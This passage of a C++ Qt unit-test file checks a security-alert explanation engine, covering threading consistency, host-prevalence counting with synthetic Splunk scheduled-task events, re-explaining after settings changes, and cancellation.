    // stores exactly what one thread reading everything stores, down to the ids of the sets.
    void readingThreadsGiveTheSameResults_data() {
        QTest::addColumn<int>("threads");
        QTest::newRow("two") << 2;
        QTest::newRow("three") << 3;
        QTest::newRow("seven: ranges of a few events") << 7;
    }
    void readingThreadsGiveTheSameResults() {
        QFETCH(int, threads);
        Database &db = mixedWorkspace().database();
        auto stored = [&db] {
            QStringList rows;
            Statement query = db.prepare(QStringLiteral(
                "SELECT a.event_id || ' ' || a.set_id || ' ' || a.fp_likelihood || ' ' || "
                "ifnull(a.top_note_id, '-') || ' ' || x.counter_evidence || ' ' || x.counter_points || ' ' "
                "|| "
                "ifnull((SELECT group_concat(n.note_id || ':' || n.score || ':' || n.evidence, '|') FROM "
                "(SELECT * FROM explanation_set_notes n WHERE n.set_id = x.id ORDER BY n.rank) n), '') "
                "FROM event_assessments a JOIN explanation_sets x ON x.id = a.set_id ORDER BY a.event_id"));
            while (query.step())
                rows << query.columnText(0);
            return rows;
        };
        WorkspaceExplainer one(db, KnowledgeBase::builtIn());
        one.setReadingThreads(1);
        QVERIFY(one.run().ok);
        const QStringList expected = stored();
        QCOMPARE(expected.size(), db.queryInt(QStringLiteral("SELECT count(*) FROM events")));
        WorkspaceExplainer many(db, KnowledgeBase::builtIn());
        many.setReadingThreads(threads);
        const auto result = many.run();
        QVERIFY(result.ok);
        QCOMPARE(result.events, qint64(expected.size()));
        QCOMPARE(stored(), expected);
    }

    // Prevalence counts hosts: an event without one (a Kubernetes audit record, a notable without
    // `dest`) adds no host to its task's count, as count(DISTINCT host) leaves NULL out.
    void eventsWithoutHostAreNoHost_data() {
        QTest::addColumn<QStringList>("hosts");
        QTest::addColumn<bool>("prevalent");
        QTest::newRow("four hosts") << QStringList{"wks-1", "wks-2", "wks-3", "wks-4"} << false;
        QTest::newRow("four hosts and an event without")
            << QStringList{"wks-1", "wks-2", "wks-3", "wks-4", ""} << false;
        QTest::newRow("five hosts") << QStringList{"wks-1", "wks-2", "wks-3", "wks-4", "wks-5"} << true;
    }
    void eventsWithoutHostAreNoHost() {
        QFETCH(QStringList, hosts);
        QFETCH(bool, prevalent);
        const QString csv = m_dir.filePath(QStringLiteral("hosts-%1.csv").arg(hosts.join(QLatin1Char('_'))));
        {
            QFile file(csv);
            QVERIFY(file.open(QIODevice::WriteOnly));
            file.write("_time,dest,user,process,search_name\n");
            int minute = 0;
            for (const QString &host : hosts)
                file.write(QStringLiteral("2026-03-02T10:%1:00Z,%2,CORP\\svc_sync,schtasks.exe /Create /TN "
                                          "CorpSync /TR C:\\Tools\\sync.exe /SC DAILY,ESCU - Scheduled Task "
                                          "Deleted Or Created via CMD - Rule\n")
                               .arg(minute++, 2, 10, QLatin1Char('0'))
                               .arg(host)
                               .toUtf8());
        }
        Workspace workspace;
        QVERIFY(workspace.open(csv + QStringLiteral(".tunebench")));
        QVERIFY(Importer(workspace.database()).importFile(csv, {}).ok());
        QVERIFY(WorkspaceExplainer(workspace.database(), KnowledgeBase::builtIn()).run().ok);
        Database &db = workspace.database();
        QCOMPARE(db.queryInt(QStringLiteral("SELECT count(*) FROM events")), qint64(hosts.size()));
        QCOMPARE(db.queryInt(QStringLiteral("SELECT count(*) FROM event_explanations WHERE evidence LIKE "
                                            "'%prevalence:task_name_hosts%'")) > 0,
                 prevalent);
    }

    // Changing a setting makes stored explanations stale; explaining again uses the new lists.
    void reExplainsAfterSettingsChange() {
        const QString path = m_dir.filePath(QStringLiteral("settings.tunebench"));
        Workspace workspace;
        QVERIFY(workspace.open(path));
        QVERIFY(Importer(workspace.database())
                    .importFile(QStringLiteral(DEMO_DATA_DIR "/splunk_notables.csv"), {})
                    .ok());
        WorkspaceExplainer explainer(workspace.database(), KnowledgeBase::builtIn());
        QVERIFY(explainer.isStale());
        QVERIFY(explainer.run().ok);
        QVERIFY(!explainer.isStale());
        auto adminSentences = [&workspace] {
            return workspace.database().queryInt(
                QStringLiteral("SELECT count(*) FROM event_explanations WHERE evidence LIKE "
                               "'%\"id\":\"admin_account\"%'"));
        };
        QCOMPARE(adminSentences(), 0);
        {
            Transaction transaction(workspace.database());
            WorkspaceSettings::set(workspace.database(), QStringLiteral("admin_accounts"),
                                   {QStringLiteral("adm_*")}, QStringLiteral("test"));
            transaction.commit();
        }
        QVERIFY(explainer.isStale());
        const auto result = explainer.runIfStale();
        QVERIFY(result.ok);
        QVERIFY(result.distinct > 0 && result.distinct <= result.events);
        QVERIFY(adminSentences() > 0);
        QCOMPARE(
            workspace.database().queryInt(QStringLiteral("SELECT count(*) FROM audit_log WHERE action = "
                                                         "'setting.set' AND object_id = 'admin_accounts'")),
            1);
    }

    void cancelWritesNothing() {
        const QString path = m_dir.filePath(QStringLiteral("cancel.tunebench"));
        Workspace workspace;
        QVERIFY(workspace.open(path));
        QVERIFY(Importer(workspace.database())
                    .importFile(QStringLiteral(DEMO_DATA_DIR "/splunk_notables.csv"), {})
                    .ok());
        // Progress is reported every 100 ms: a cancel at the first report leaves nothing.
        WorkspaceExplainer explainer(workspace.database(), KnowledgeBase::builtIn());
        const auto result = explainer.run([](qint64, qint64) { return false; });
        if (result.cancelled)
            QCOMPARE(workspace.database().queryInt(QStringLiteral("SELECT count(*) FROM event_assessments")),
                     0);
        else
            QVERIFY(result.ok); // finished before the first report: nothing to cancel
    }
};

QTEST_GUILESS_MAIN(TestExplanationEngine)
#include "tst_explanationengine.moc"
